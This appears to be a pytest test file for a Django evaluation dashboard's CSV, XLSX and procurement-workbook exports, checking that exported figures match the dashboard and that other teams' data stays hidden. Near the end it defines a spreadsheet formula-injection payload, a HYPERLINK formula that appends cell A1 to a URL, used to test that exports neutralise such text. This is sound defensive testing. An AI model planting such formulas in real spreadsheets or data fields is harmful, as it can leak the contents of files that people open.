"""Exports: tables as CSV/XLSX equal the dashboard's figures; procurement workbook; streamed attempts."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from apps.exports.procurement import SHEETS, build_workbook
from apps.figures import selectors as figures
from tests.triage.conftest import T1, T2, T3

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def two_campaigns(summaries_campaign):
    a = summaries_campaign({T1: (4, 4), T2: (4, 1), T3: (4, 0)}, name="Alpha", n=4)
    b = summaries_campaign({T1: (4, 4), T2: (4, 4), T3: (3, 1)}, name="Beta", n=4)
    return a, b


def _csv(response) -> list[dict]:
    # The About block comes first as "# key: value" comment lines.
    lines = [line for line in response.content.decode().splitlines() if not line.startswith("# ")]
    return list(csv.DictReader(lines))


def test_leaderboard_csv_numbers_equal_the_dashboard_figures(client, bob, two_campaigns):
    client.force_login(bob)
    rows = {row.campaign.name: row.figures for row in figures.leaderboard_rows(list(two_campaigns))}

    exported = {row["campaign"]: row for row in _csv(client.get("/exports/tables/leaderboard.csv"))}

    for name in ("Alpha", "Beta"):
        m = rows[name]
        assert float(exported[name]["pass@1"]) == m.pass_at_1.value
        assert float(exported[name]["pass@1 lo"]) == m.pass_at_1.lo
        assert int(exported[name]["all-N tasks"]) == m.all_n.count
        assert float(exported[name]["gap (pp)"]) == m.gap_pp.value
    assert float(exported["Alpha"]["pass@1"]) == pytest.approx((1 + 0.25 + 0) / 3)
    assert exported["Beta"]["all-N tasks"] == "2"


def test_leaderboard_xlsx_stores_numbers_with_formats_frozen_header_and_widths(client, bob, two_campaigns):
    client.force_login(bob)

    response = client.get("/exports/tables/leaderboard.xlsx?sort=name&dir=asc")

    assert response["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    pass1 = header.index("pass@1") + 1
    assert sheet.freeze_panes == "A2"
    assert sheet[1][0].font.bold is True
    assert [sheet.cell(row=r, column=1).value for r in (2, 3)] == ["Alpha", "Beta"]
    cell = sheet.cell(row=2, column=pass1)
    assert isinstance(cell.value, float) and cell.number_format == "0.0%"
    assert cell.value == pytest.approx(5 / 12)
    assert sheet.cell(row=2, column=header.index("all-N tasks") + 1).value == 1
    assert sheet.column_dimensions["A"].width >= len("campaign") + 2


def test_leaderboard_export_follows_the_health_toggle(client, bob, trish, attempts_campaign):
    from apps.triage import services
    from apps.triage.models import Label

    campaign = attempts_campaign(
        [(T1, i, "fail", [], True) for i in range(2)] + [(T2, i, "pass", [], False) for i in range(2)], n=2
    )
    flagged = campaign.attempts.filter(task__task_id=T1).first()
    services.attempt_toggle_label(attempt=flagged, label=Label.objects.get(name="grader bug"), actor=trish)
    client.force_login(bob)

    (kept,) = _csv(client.get("/exports/tables/leaderboard.csv"))
    (dropped,) = _csv(client.get("/exports/tables/leaderboard.csv?healthy=exclude"))

    assert (kept["pass@1"], kept["excluded unhealthy tasks"]) == ("0.5", "0")
    assert (dropped["pass@1"], dropped["excluded unhealthy tasks"]) == ("1.0", "1")


@pytest.mark.parametrize(
    "name", ["leaderboard", "gap", "cost", "domains", "tasks", "compare", "triage-queue", "triage-summary"]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_dashboard_table_downloads_and_hides_other_teams(client, erin, bob, two_campaigns, name, fmt):
    a, b = two_campaigns
    query = f"a={a.pk}&b={b.pk}"
    client.force_login(bob)
    mine = client.get(f"/exports/tables/{name}.{fmt}?{query}")
    client.force_login(erin)
    theirs = client.get(f"/exports/tables/{name}.{fmt}?{query}")

    assert mine.status_code == theirs.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(theirs.content)).active
        assert sheet.max_row == 1  # header only: erin sees nothing of team A
    else:
        body = theirs.content.decode()
        assert len([line for line in body.strip().splitlines() if not line.startswith("# ")]) == 1
        assert a.name not in body and b.name not in body  # nor in the About block


def test_domains_and_tasks_exports_equal_their_pages_tables(client, bob, two_campaigns):
    a, b = two_campaigns
    client.force_login(bob)
    domain_rows = figures.domain_figures(figures.per_task_tables([a]), a)

    domains = [row for row in _csv(client.get("/exports/tables/domains.csv")) if row["campaign"] == "Alpha"]
    tasks = _csv(client.get(f"/exports/tables/tasks.csv?c={a.pk}&c={b.pk}&filter=unreliable"))

    assert [(row["domain"], float(row["pass@1"]), float(row["all-N share"])) for row in domains] == [
        (row.domain, row.pass_at_1, row.all_n) for row in domain_rows
    ]
    assert [row["task"] for row in tasks] == [T3]  # T2 is dependable in Beta; T3 solved once, never reliably


def test_compare_export_equals_paired_comparison(client, bob, two_campaigns):
    a, b = two_campaigns
    client.force_login(bob)
    expected = figures.comparison(figures.per_task_tables([a, b]), a, b).per_task

    rows = _csv(client.get(f"/exports/tables/compare.csv?a={a.pk}&b={b.pk}"))

    assert [(r["task"], float(r["Δ pass@1"]), float(r["P(A better)"])) for r in rows] == [
        (e.task_id, e.delta_pass_at_1, e.p_a_better) for e in expected
    ]


def test_procurement_workbook_has_its_sheets_and_the_dashboard_numbers(two_campaigns):
    a, b = two_campaigns
    m = figures.campaign_figures(figures.per_task_tables([a]), a)

    content, digest = build_workbook(campaigns=[a, b])
    again, digest_again = build_workbook(campaigns=[a, b])

    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == SHEETS
    summary = book["Summary"]
    header = [c.value for c in summary[1]]
    alpha = {title: cell.value for title, cell in zip(header, summary[2])}
    assert alpha["campaign"] == "Alpha"
    assert alpha["pass@1"] == m.pass_at_1.value
    assert (alpha["pass@1 95% lo"], alpha["pass@1 95% hi"]) == (m.pass_at_1.lo, m.pass_at_1.hi)
    assert (alpha["all-N tasks"], alpha["pass@N observed"]) == (1, pytest.approx(2 / 3))
    assert alpha["gap (pp)"] == m.gap_pp.value
    assert summary.cell(row=2, column=header.index("pass@1") + 1).number_format == "0.0%"
    assert book["Per task"].max_row == 1 + 6
    provenance = {row[0].value: row[1].value for row in book["Methodology & provenance"].iter_rows(min_row=2)}
    assert provenance["content hash (sha256 of the data sheets)"] == digest == digest_again
    assert provenance["  suite hash"] == a.suite_hash
    assert provenance["  N attempts per task"] == 4
    assert "how: pass@1" in provenance  # a plain definition, the glossary's
    assert len(again) > 0


def test_export_procurement_command_writes_the_same_workbook(two_campaigns, tmp_path):
    a, b = two_campaigns
    out = tmp_path / "procurement.xlsx"
    stdout = io.StringIO()

    call_command(
        "export_procurement",
        "--campaign",
        str(a.pk),
        "--campaign",
        str(b.pk),
        "--out",
        str(out),
        stdout=stdout,
    )

    _, digest = build_workbook(campaigns=[a, b])
    assert load_workbook(out).sheetnames == SHEETS
    assert stdout.getvalue().strip().endswith(f"content sha256 {digest}")


def test_export_procurement_command_names_a_missing_campaign(db, tmp_path):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError) as error:
        call_command("export_procurement", "--campaign", "999", "--out", str(tmp_path / "x.xlsx"))

    assert str(error.value) == "--campaign: no campaign with id 999"


def test_procurement_page_downloads_only_visible_campaigns(client, erin, bob, two_campaigns):
    a, _ = two_campaigns
    client.force_login(erin)
    hidden = client.get(f"/exports/procurement/?c={a.pk}&download=1")
    client.force_login(bob)
    shown = client.get(f"/exports/procurement/?c={a.pk}&download=1")

    assert hidden["Content-Type"].startswith("text/html")
    assert shown["Content-Type"] == XLSX
    assert load_workbook(io.BytesIO(shown.content))["Summary"]["B2"].value == "Alpha"


def test_attempt_export_streams_csv_and_jsonl_without_result_unless_asked(client, bob, attempts_campaign):
    campaign = attempts_campaign([(T1, i, "fail", ["wrong_value"], True) for i in range(3)])
    campaign.attempts.update(result={"transcript": {"messages": []}, "diff": [{"kind": "wrong_value"}]})
    client.force_login(bob)

    as_csv = client.get(f"/exports/attempts.csv?c={campaign.pk}")
    as_jsonl = client.get(f"/exports/attempts.jsonl?c={campaign.pk}")
    with_result = client.get(f"/exports/attempts.jsonl?c={campaign.pk}&result=1")

    assert as_csv.streaming and as_jsonl.streaming
    rows = list(csv.DictReader(io.StringIO(b"".join(as_csv.streaming_content).decode())))
    lines = [json.loads(line) for line in b"".join(as_jsonl.streaming_content).decode().splitlines()]
    full = [json.loads(line) for line in b"".join(with_result.streaming_content).decode().splitlines()]
    assert [(r["task_id"], r["index"], r["categories"], r["clean_looking"]) for r in rows] == [
        (T1, str(i), '["wrong_value"]', "True") for i in range(3)
    ]
    assert [(line["index"], line["verdict"]) for line in lines] == [(0, "fail"), (1, "fail"), (2, "fail")]
    assert "result" not in rows[0] and "result" not in lines[0]
    assert full[0]["result"] == {"transcript": {"messages": []}, "diff": [{"kind": "wrong_value"}]}


def test_attempt_export_is_404_for_other_teams_and_403_without_role(client, erin, charlie, attempts_campaign):
    campaign = attempts_campaign([(T1, 0, "fail", [], True)])
    client.force_login(erin)
    outsider = client.get(f"/exports/attempts.csv?c={campaign.pk}").status_code
    client.force_login(charlie)
    no_role = client.get(f"/exports/attempts.csv?c={campaign.pk}").status_code

    assert (outsider, no_role) == (404, 403)


@pytest.mark.parametrize("table", ["gap", "cost", "domains"])
def test_exports_follow_the_toggle_and_say_how_many_tasks_they_leave_out(client, bob, flagged, table):
    client.force_login(bob)

    kept = _csv(client.get(f"/exports/tables/{table}.csv"))
    dropped = _csv(client.get(f"/exports/tables/{table}.csv?healthy=exclude"))

    assert {row["excluded unhealthy tasks"] for row in kept} == {"0"}
    assert {row["excluded unhealthy tasks"] for row in dropped} == {"1"}
    if table == "gap":
        assert [row["all-N share"] for row in kept] == ["0.5", "0.5"]
        assert [row["all-N share"] for row in dropped] == ["1.0", "1.0"]
    if table == "domains":
        assert sorted(row["domain"] for row in kept) == ["neobank", "neobank", "retail", "retail"]
        assert sorted(row["domain"] for row in dropped) == ["neobank", "neobank"]


@pytest.mark.parametrize("name", ["leaderboard", "gap", "cost", "domains", "tasks", "triage-summary"])
def test_table_export_query_count_is_the_same_for_one_and_three_campaigns(
    client, bob, summaries_campaign, name
):
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from apps.figures.services import figures_refresh
    from apps.figures.tables import forget_process_figures

    def as_a_fresh_process_after_the_campaigns_finished(campaigns) -> None:
        figures_refresh(campaign_ids=[c.pk for c in campaigns])  # what the end of a campaign stores
        client.get(f"/exports/tables/{name}.csv")  # and what the first reader computed over several
        cache.clear()
        forget_process_figures()

    client.force_login(bob)
    campaigns = [summaries_campaign({T1: (2, 1), T2: (2, 2)}, name="C1", n=2)]
    as_a_fresh_process_after_the_campaigns_finished(campaigns)
    with CaptureQueriesContext(connection) as one:
        assert len(_csv(client.get(f"/exports/tables/{name}.csv"))) >= 1
    campaigns.append(summaries_campaign({T1: (2, 0), T2: (2, 2)}, name="C2", n=2))
    campaigns.append(summaries_campaign({T1: (2, 2), T3: (2, 2)}, name="C3", n=2))
    as_a_fresh_process_after_the_campaigns_finished(campaigns)
    with CaptureQueriesContext(connection) as three:
        rows = _csv(client.get(f"/exports/tables/{name}.csv"))

    # C3 ran another task (T3): the leaderboard ranks different tests on their common ground, read
    # as one stored ranking (its slot) beside the stored "one test?" answer both runs read — one
    # query more however many campaigns.
    assert len(three) - len(one) == (1 if name == "leaderboard" else 0)
    campaigns.append(summaries_campaign({T1: (2, 1), T3: (2, 0)}, name="C4", n=2))
    campaigns.append(summaries_campaign({T2: (2, 2), T3: (2, 1)}, name="C5", n=2))
    as_a_fresh_process_after_the_campaigns_finished(campaigns)
    with CaptureQueriesContext(connection) as five:
        assert len(_csv(client.get(f"/exports/tables/{name}.csv"))) >= 1
    assert len(five) == len(three)
    if name == "tasks":
        assert len(rows[0]) == 2 + 2 * 3  # task, domain, then passes and done per campaign
    else:
        assert {row["campaign"] for row in rows} == {"C1", "C2", "C3"}


HOSTILE = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")'


@pytest.fixture
def hostile_campaigns(summaries_campaign):
    a = summaries_campaign({T1: (4, 4), T2: (4, 1)}, name=HOSTILE, n=4)
    b = summaries_campaign({T1: (4, 4), T2: (4, 4)}, name="@SUM(1+1)", n=4)
    return a, b


def test_table_csv_neutralises_text_that_starts_like_a_formula(client, bob, hostile_campaigns):
    client.force_login(bob)

    rows = _csv(client.get("/exports/tables/leaderboard.csv?sort=name&dir=asc"))

    assert sorted(row["campaign"] for row in rows) == ["'" + HOSTILE, "'@SUM(1+1)"]


def test_table_xlsx_stores_formula_like_names_as_text_never_as_formulas(client, bob, hostile_campaigns):
    client.force_login(bob)

    response = client.get("/exports/tables/leaderboard.xlsx?sort=name&dir=asc")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [sheet.cell(row=r, column=1) for r in (2, 3)]
    assert sorted((cell.value, cell.data_type) for cell in cells) == [(HOSTILE, "s"), ("@SUM(1+1)", "s")]
    assert b"<f>" not in _sheet_xml(response.content)


def test_procurement_workbook_holds_no_formula(hostile_campaigns):
    content, _ = build_workbook(campaigns=list(hostile_campaigns))

    book = load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    summary = book["Summary"]
    column = [cell.value for cell in summary[1]].index("campaign") + 1
    assert sorted(summary.cell(row=r, column=column).value for r in (2, 3)) == [HOSTILE, "@SUM(1+1)"]


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def test_about_blocks_keep_hostile_campaign_names_inert(client, bob, hostile_campaigns):
    client.force_login(bob)

    workbook = client.get("/exports/tables/leaderboard.xlsx?sort=name&dir=asc").content
    text = client.get("/exports/tables/leaderboard.csv?sort=name&dir=asc").content.decode()

    about = load_workbook(io.BytesIO(workbook))["About"]
    assert "f" not in {cell.data_type for row in about.iter_rows() for cell in row}
    about_lines = [line for line in text.splitlines() if line.startswith("#")]
    pieces = [piece.lstrip() for line in about_lines for piece in line.split(",")[1:]]
    assert [piece for piece in pieces if piece.startswith(("=", "+", "-", "@"))] == []
